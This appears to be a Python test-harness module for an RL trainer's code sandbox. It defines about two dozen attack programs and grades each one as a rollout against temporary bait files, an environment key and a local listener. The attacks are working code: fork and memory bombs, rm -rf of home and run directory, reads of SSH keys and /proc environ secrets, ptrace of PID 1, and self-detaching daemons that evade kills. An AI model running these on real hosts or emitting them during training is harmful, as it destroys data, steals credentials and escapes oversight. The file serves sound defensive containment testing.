"""Attacks on the code sandbox, graded like any rollout: the tests (tests/judges/test_sandbox_attacks.py) and
bench/sandbox.py run them through ``CodeVerifier`` and check that each is contained.

Every attack is a candidate program for a one-test standard-input problem whose expected output is a random
proof token. The program prints the token only on evidence that the attack worked (it read the planted
secret, the directory it deleted existed, its file landed outside its sandbox, its connection was
accepted), so reward 1 means an escape. An attack is contained when: reward 0 with an outcome and a reason,
the host bait unchanged (home with ``.ssh``, run directory, no planted files, no connection on the bait
listener), no process of it left running, and the trainer still grading (a harmless program still passes).

The bait is harmless by construction: the "home" and "run directory" are temporary directories made by
``HostBait`` (never the real ones), the "API key" is a random token set in this process's environment for the
duration, and resource attacks (fork bomb, 50 GB, 1 GB of output) are stopped by the sandbox's limits.
The memory attacks are finite: the multi-process bomb touches a fixed amount (about twice the execution's
memory cap, ``attack_sizes``), so even where nothing caps it (no cgroup) it cannot exhaust the host.

``run_attack`` also watches memory while the attack runs (``MemoryProbe``: the cgroup's own count of what
this process's executions held at most, and on request the host's MemAvailable sampled every millisecond),
so the bench can compare the host's drop with the execution's cap.
"""

from __future__ import annotations

import math
import os
import secrets
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
import time
from dataclasses import dataclass
from pathlib import Path
from typing import Any

__all__ = ["ATTACKS", "Attack", "AttackReport", "HostBait", "MemoryProbe", "attack_sizes", "run_attack",
           "leftover_processes"]

KEY_VAR = "RISE_NEMO_JUDGE_API_KEY"  # the bait "judge API key" variable name


@dataclass(frozen=True)
class Attack:
    name: str
    code: str  # str.format template: {proof} {home} {run_dir} {port} {trainer_pid} {key_var} {token} and
    # the sizes of attack_sizes: {cap_mb} {bomb_children} {bomb_mb} {tmp_mb}


ATTACKS: tuple[Attack, ...] = (
    Attack("fork_bomb", """
import os
while True:
    try:
        os.fork()
    except OSError:
        pass
"""),
    Attack("rm_rf_home", """
import os, shutil, subprocess
subprocess.run(["rm", "-rf", os.path.expanduser("~")], check=False)
if os.path.isdir({home!r}):
    shutil.rmtree({home!r})
    print({proof!r})
"""),
    Attack("rm_rf_run_dir", """
import os, shutil, subprocess
if os.path.isdir({run_dir!r}):
    subprocess.run(["rm", "-rf", {run_dir!r}], check=False)
    print({proof!r})
"""),
    Attack("write_outside_tmp", """
import os
hits = 0
for path in ({run_dir!r} + "/pwned", {home!r} + "/pwned", "/usr/pwned-{token}", "/pwned-{token}",
             "/etc/pwned-{token}", "/dev/pwned-{token}", "/dev/shm/pwned-{token}", "/proc/pwned-{token}"):
    try:
        with open(path, "w") as f:
            f.write("pwned")
        hits += 1
    except OSError:
        pass
if hits:
    print({proof!r})
"""),
    Attack("read_api_key_env", """
import os
value = os.environ.get({key_var!r})
for pid in ("1", "self", str(os.getppid())):
    try:
        env = open("/proc/" + pid + "/environ", "rb").read().decode(errors="replace")
    except OSError:
        continue
    for item in env.split("\\0"):
        if item.startswith({key_var!r} + "="):
            value = item.split("=", 1)[1]
print(value or "no key")
"""),
    Attack("read_ssh_key", """
import os
for path in ({home!r} + "/.ssh/id_ed25519", os.path.expanduser("~/.ssh/id_ed25519"), "/root/.ssh/id_ed25519"):
    try:
        print(open(path).read().strip())
        break
    except OSError:
        pass
"""),
    Attack("read_run_dir", """
import os
for root, dirs, files in os.walk({run_dir!r}):
    for name in files:
        print(open(os.path.join(root, name)).read().strip())
"""),
    Attack("open_socket", """
import socket
s = socket.create_connection(("127.0.0.1", {port}), timeout=1)
s.sendall(b"pwned")
print({proof!r})
"""),
    Attack("allocate_50gb", """
block = bytearray(50 * 2**30)
print({proof!r})
"""),
    Attack("infinite_loop", """
while True:
    pass
"""),
    Attack("print_1gb", """
import sys
chunk = "x" * (1 << 20)
for _ in range(1024):
    sys.stdout.write(chunk)
print({proof!r})
"""),
    Attack("close_stdout", """
import os, time
os.close(1)
os.close(2)
time.sleep(3600)
"""),
    Attack("sleep_past_limit", """
import time
time.sleep(3600)
print({proof!r})
"""),
    Attack("daemon_outlives", """
import os, sys
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", "import time; time.sleep(600)  # {token}"])
    os._exit(0)
print("started a daemon")
"""),
    Attack("kill_parent", """
import os, signal
for target in (os.getppid(), 1, {trainer_pid}, -1):
    try:
        os.kill(target, signal.SIGKILL)
    except OSError:
        pass
"""),
    Attack("sigstop_self", """
import os, signal
os.kill(os.getpid(), signal.SIGSTOP)
print({proof!r})
"""),
    Attack("ctypes_crash", """
import ctypes
ctypes.string_at(0)
print({proof!r})
"""),
    # Children that together hold about twice the execution's memory cap, each below its own address-space
    # limit: per-process rlimits let every one through. The proof needs all of them holding at once.
    Attack("multiprocess_memory_bomb", """
import os, time
r, w = os.pipe()
for _ in range({bomb_children}):
    if os.fork() == 0:
        block = bytearray({bomb_mb} << 20)
        for i in range(0, len(block), 4096):
            block[i] = 1
        os.write(w, b"x")
        time.sleep(30)
        os._exit(0)
held = 0
while held < {bomb_children}:
    held += len(os.read(r, 64))
print({proof!r})
"""),
    # Small stacks and one malloc arena (re-exec with MALLOC_ARENA_MAX=1): the address-space limit no longer
    # stops it early; only a cap on threads does.
    Attack("thread_bomb", """
import os, sys, threading, time
if os.environ.get("MALLOC_ARENA_MAX") != "1":
    os.execve(sys.executable, [sys.executable, "-I", sys.argv[0]], dict(os.environ, MALLOC_ARENA_MAX="1"))
threading.stack_size(64 * 1024)
for _ in range(100000):
    threading.Thread(target=time.sleep, args=(30,), daemon=True).start()
print({proof!r})
"""),
    # A detached grandchild in its own session that keeps forking away from its pid (the kill of a pid
    # list always misses it) while the program exits at once as if it were done.
    Attack("double_fork_escape", """
import os, sys
hop = "import os, signal, time\\nsignal.signal(signal.SIGTERM, signal.SIG_IGN)\\nsignal.signal(signal.SIGHUP, signal.SIG_IGN)\\nwhile True:\\n    if os.fork():\\n        os._exit(0)\\n    os.setsid()\\n    time.sleep(0.01)  # {token}"
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", hop])
    os._exit(0)
print("done")
"""),
    # bubblewrap's PID 1 is outside the program's process tree and its RLIMIT_NPROC: attaching to it (or
    # opening its memory) would hand the program an unlimited process.
    Attack("ptrace_pid1", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
hits = []
for request in (16, 0x4206):  # PTRACE_ATTACH, PTRACE_SEIZE
    if libc.ptrace(request, 1, 0, 0) == 0:
        hits.append(request)
for path in ("/proc/1/mem", "/proc/1/task/1/mem", "/proc/1/environ"):
    try:
        open(path, "rb").close()
        hits.append(path)
    except OSError:
        pass
print({proof!r} if hits else "denied")
"""),
    # Shared memory no address-space limit counts: files in /dev/shm, POSIX shm, a memfd written but never
    # mapped, detached System V segments. The proof: more than the execution's cap held that way.
    Attack("dev_shm_fill", """
import ctypes, os
chunk = b"x" * (1 << 20)
target = 2 * {cap_mb}
held = 0
def fill(f):
    global held
    try:
        for _ in range(target):
            f.write(chunk)
            held += 1
    except OSError:
        pass
for path in ("/dev/shm/fill-{token}", "/dev/fill-{token}"):
    try:
        with open(path, "wb") as f:
            fill(f)
    except OSError:
        pass
try:
    from multiprocessing import shared_memory
    shm = shared_memory.SharedMemory(create=True, size=target << 20)
    shm.buf[:] = b"x" * shm.size
    held += target
except Exception:
    pass
try:
    fds = [os.memfd_create("fill") for _ in range(target // 8)]
    for fd in fds:
        with os.fdopen(os.dup(fd), "wb") as f:
            for _ in range(8):
                f.write(chunk)
                held += 1
except OSError:
    pass
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
for _ in range(target // 16):
    sid = libc.shmget(0, 16 << 20, 0o1600)
    if sid < 0:
        break
    addr = libc.shmat(sid, None, 0)
    if addr in (None, ctypes.c_void_p(-1).value):
        break
    ctypes.memset(addr, 1, 16 << 20)
    libc.shmdt(ctypes.c_void_p(addr))
    held += 16
print({proof!r} if held > {cap_mb} else "held " + str(held) + " MiB")
"""),
    Attack("fill_private_tmp", """
chunk = b"x" * (1 << 20)
written = 0
try:
    for n in range(4 * {tmp_mb}):
        with open("/tmp/fill-{token}-" + str(n), "wb") as f:
            for _ in range(4):
                f.write(chunk)
                written += 1
except OSError:
    pass
print({proof!r} if written > {tmp_mb} else "wrote " + str(written) + " MiB")
"""),
)


def leftover_processes(token: str) -> list[int]:
    """PIDs on the host whose command line contains ``token`` (a daemon that outlived its sandbox)."""
    found = []
    for entry in Path("/proc").iterdir():
        if not entry.name.isdigit() or int(entry.name) == os.getpid():
            continue
        try:
            cmdline = (entry / "cmdline").read_bytes()
        except OSError:
            continue
        if token.encode() in cmdline:
            found.append(int(entry.name))
    return found


class HostBait:
    """Temporary bait on the host: a "home" with an SSH key, a "run directory" with a secret, the API-key
    variable in this process's environment, and a TCP listener on 127.0.0.1 that records connections."""

    def __init__(self) -> None:
        self.token = "rise-nemo-attack-" + secrets.token_hex(8)
        self.proof = "proof-" + secrets.token_hex(12)
        self.root = Path(tempfile.mkdtemp(prefix="rise-nemo-bait-"))
        self.home = self.root / "home"
        self.run_dir = self.root / "run"
        (self.home / ".ssh").mkdir(parents=True)
        (self.home / ".ssh" / "id_ed25519").write_text(self.proof + "\n")
        self.run_dir.mkdir()
        (self.run_dir / "secret.txt").write_text(self.proof + "\n")
        self.connections = 0
        self._server = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        self._server.bind(("127.0.0.1", 0))
        self._server.listen(8)
        self.port = self._server.getsockname()[1]
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._saved_key = os.environ.get(KEY_VAR)
        os.environ[KEY_VAR] = self.proof
        self._thread.start()

    def _accept(self) -> None:
        self._server.settimeout(0.2)
        while not self._stop.is_set():
            try:
                conn, _ = self._server.accept()
            except (TimeoutError, OSError):
                continue
            self.connections += 1
            conn.close()

    def fields(self) -> dict[str, Any]:
        return {"proof": self.proof, "home": str(self.home), "run_dir": str(self.run_dir), "port": self.port,
                "trainer_pid": os.getpid(), "key_var": KEY_VAR, "token": self.token}

    def damage(self) -> list[str]:
        """What an attack changed on the host (empty when nothing)."""
        problems = []
        if (self.home / ".ssh" / "id_ed25519").read_text().strip() != self.proof:
            problems.append("home's SSH key changed or removed")
        if sorted(p.name for p in self.run_dir.iterdir()) != ["secret.txt"]:
            problems.append("run directory changed")
        if (self.run_dir / "secret.txt").read_text().strip() != self.proof:
            problems.append("run directory secret changed")
        if sorted(p.name for p in self.home.iterdir()) != [".ssh"]:
            problems.append("home changed")
        for planted in (Path(f"/usr/pwned-{self.token}"), Path(f"/pwned-{self.token}"),
                        Path(f"/etc/pwned-{self.token}"), Path(f"/dev/shm/pwned-{self.token}"),
                        Path(f"/dev/shm/fill-{self.token}"), Path(tempfile.gettempdir()) / f"fill-{self.token}-0",
                        Path(f"/tmp/fill-{self.token}-0")):
            if planted.exists():
                problems.append(f"file written outside the sandbox: {planted}")
        if self.connections:
            problems.append(f"{self.connections} connection(s) reached the host listener")
        return problems

    def close(self) -> None:
        self._stop.set()
        self._thread.join(timeout=5)
        self._server.close()
        if self._saved_key is None:
            os.environ.pop(KEY_VAR, None)
        else:
            os.environ[KEY_VAR] = self._saved_key
        shutil.rmtree(self.root, ignore_errors=True)

    def __enter__(self) -> HostBait:
        return self

    def __exit__(self, *exc: object) -> None:
        self.close()


def attack_sizes(limits: Any) -> dict[str, int]:
    """The sizes the memory attacks use for a sandbox's limits (``SandboxLimits``): children of 60% of the
    per-process address space each, enough of them to hold about twice the execution's cap together."""
    cap_mb = limits.execution_memory_bytes >> 20
    bomb_mb = max(16, int(0.6 * limits.memory_mb))
    return {"cap_mb": cap_mb, "bomb_mb": bomb_mb, "bomb_children": max(4, math.ceil(2 * cap_mb / bomb_mb)),
            "tmp_mb": limits.tmp_mb}


# The host sampler runs as its own small process at a raised priority where allowed (root): a thread of
# this process, at the bench's nice 10 on a loaded machine, was scheduled too rarely to see a bomb that is
# killed within ~0.1 s of reaching its cap. It follows two figures, because MemAvailable alone misses
# allocations right after a large free here (a 1 GiB allocation held 0.3 s, run three times in a row on
# this VM: MemAvailable fell by 1057, 36 and 627 MiB while AnonPages rose by 1132, 976 and 993 MiB):
# the fall of MemAvailable and the rise of the memory processes hold (AnonPages, Shmem, PageTables,
# KernelStack).
_HOST_SAMPLER = """
import os, select, sys
try:
    os.setpriority(os.PRIO_PROCESS, 0, -5)
except OSError:
    pass
HELD = (b"AnonPages:", b"Shmem:", b"PageTables:", b"KernelStack:")
def sample():
    available = held = 0
    with open("/proc/meminfo", "rb") as f:
        for line in f:
            if line.startswith(b"MemAvailable:"):
                available = int(line.split()[1]) * 1024
            elif line.startswith(HELD):
                held += int(line.split()[1]) * 1024
    return available, held
base_available, base_held = lowest, highest = sample()
print(base_available, base_held, flush=True)
while not select.select([sys.stdin], [], [], 0.001)[0]:
    available, held = sample()
    lowest, highest = min(lowest, available), max(highest, held)
print(base_available - lowest, highest - base_held, flush=True)
"""


class MemoryProbe:
    """What memory did while a block ran.

    ``host=True``: the host's /proc/meminfo sampled every millisecond by a separate process:
    ``available_drop_bytes``, the largest fall of MemAvailable below its value at entry, ``held_rise_bytes``,
    the largest rise of what processes hold (AnonPages + Shmem + PageTables + KernelStack), and
    ``host_drop_bytes``, the larger of the two (everything on the host counts, other tenants too).
    With per-execution cgroups, the most this process's executions held at once: ``cgroup_peak``, the
    growth of their common parent's charge above its value at entry (the kernel's own peak where it can be
    reset, v1 and v2 from Linux 6.12, else the largest sample; it includes what the kernel has yet to free
    of executions that already ended), and ``live_peak``, the largest sum, sampled every ``interval``
    seconds, over the cgroups of the executions running at that moment."""

    def __init__(self, cgroups: Any = None, host: bool = False, interval: float = 0.002):
        self.cgroups = cgroups
        self.host = host
        self.interval = interval
        self.available_drop_bytes = self.held_rise_bytes = 0
        self.cgroup_peak: int | None = None
        self.cgroup_peak_exact = False  # the kernel's count (else the largest sample)
        self.live_peak = 0
        self._sampled_peak = self._cgroup_at_entry = 0
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._sample, daemon=True)
        self._peak_reader: Any = None
        self._sampler: subprocess.Popen | None = None

    def _sample(self) -> None:
        while not self._stop.is_set():
            self._sampled_peak = max(self._sampled_peak, self.cgroups.memory_bytes())
            self.live_peak = max(self.live_peak, self.cgroups.live_memory_bytes())
            time.sleep(self.interval)

    @property
    def host_drop_bytes(self) -> int:
        return max(0, self.available_drop_bytes, self.held_rise_bytes)

    def __enter__(self) -> MemoryProbe:
        if self.host:
            self._sampler = subprocess.Popen([sys.executable, "-I", "-c", _HOST_SAMPLER], stdin=subprocess.PIPE,
                                             stdout=subprocess.PIPE, text=True)
            self._sampler.stdout.readline()  # it has its baseline
        if self.cgroups is not None:
            self._peak_reader = self.cgroups.reset_peak()
            self._cgroup_at_entry = self._sampled_peak = self.cgroups.memory_bytes()
            self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        if self._sampler is not None:
            out, _ = self._sampler.communicate(timeout=60)  # closing its stdin ends it
            self.available_drop_bytes, self.held_rise_bytes = map(int, out.split()[-2:])
        if self.cgroups is not None:
            self._stop.set()
            self._thread.join(timeout=5)
            exact = self._peak_reader() if self._peak_reader is not None else None
            self.cgroup_peak_exact = exact is not None
            peak = exact if exact is not None else self._sampled_peak
            self.cgroup_peak = max(0, peak - self._cgroup_at_entry)


@dataclass(frozen=True)
class AttackReport:
    name: str
    contained: bool
    reward: float
    outcome: str
    reason: str
    damage: tuple[str, ...]
    leftover: tuple[int, ...]
    trainer_ok: bool
    cap_bytes: int = 0  # the execution's memory cap
    host_drop_bytes: int = 0  # the host's largest drop while it ran (with watch_host; MemoryProbe)
    available_drop_bytes: int = 0  # of it: MemAvailable's fall
    held_rise_bytes: int = 0  # of it: the rise of what processes hold
    cgroup_peak_bytes: int | None = None  # the most its cgroup held (None without cgroups)


def run_attack(verifier: Any, attack: Attack, bait: HostBait, watch_host: bool = False) -> AttackReport:
    """Grade one attack with ``verifier`` (a CodeVerifier) against ``bait``; contained or not, and why.
    ``watch_host``: also sample the host's MemAvailable while it runs (``MemoryProbe``)."""
    from rise_nemo.judges.code_verifier import CodeTests
    from rise_nemo.judges.sandbox import SandboxLimits

    sandbox = getattr(verifier, "sandbox", None)
    limits = sandbox.limits if sandbox is not None else SandboxLimits()
    code = attack.code.format(**bait.fields(), **attack_sizes(limits))
    with MemoryProbe(getattr(sandbox, "cgroups", None), host=watch_host) as probe:
        [result] = verifier.grade([f"```python\n{code}\n```"], [CodeTests([""], [bait.proof])])
    damage = tuple(bait.damage())
    leftover = tuple(leftover_processes(bait.token))
    for pid in leftover:  # a failed containment must not leave the process behind on this machine
        try:
            os.kill(pid, 9)
        except OSError:
            pass
    [sanity] = verifier.grade(["```python\nprint(input()[::-1])\n```"], [CodeTests(["abc\n"], ["cba"])])
    trainer_ok = sanity is not None and sanity.reward == 1.0
    contained = (result.reward == 0.0 and result.outcome != "passed" and bool(result.reason) and not damage
                 and not leftover and trainer_ok)
    return AttackReport(attack.name, contained, result.reward, result.outcome, result.reason, damage, leftover,
                        trainer_ok, limits.execution_memory_bytes, probe.host_drop_bytes, probe.available_drop_bytes,
                        probe.held_rise_bytes, probe.cgroup_peak)
